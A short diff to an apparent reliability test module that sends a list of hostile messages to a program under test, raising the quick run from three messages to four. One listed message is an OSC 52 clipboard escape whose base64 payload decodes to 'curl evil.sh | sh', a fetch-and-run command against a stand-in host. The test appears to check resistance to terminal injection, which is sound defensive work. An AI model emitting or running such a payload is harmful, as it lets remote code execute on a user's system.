@@ -44,7 +44,7 @@ from tests.reliability.report import Outcome, Scale
 
 __all__ = ["HOSTILE_MESSAGES", "run"]
 
-#: One attack each; the quick scale sends the first three through ``ask``.
+#: One attack each; the quick scale sends the first four through ``ask``.
 HOSTILE_MESSAGES = [
     HOSTILE,
     "osc52 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\ copied",
@@ -195,7 +195,7 @@ def run(scale: Scale, workdir: Path) -> Outcome:
 
 def _run(scale: Scale, workdir: Path, db: Path, outcome: Outcome) -> None:
     term = Terminal(outcome)
-    messages = HOSTILE_MESSAGES[:3] if scale.name == "quick" else HOSTILE_MESSAGES
+    messages = HOSTILE_MESSAGES[:4] if scale.name == "quick" else HOSTILE_MESSAGES
     asked: list[str] = []
     for message in messages:  # a real process each, as a user runs it
         if "\x00" in message:  # a command line cannot carry NUL: the message comes on stdin
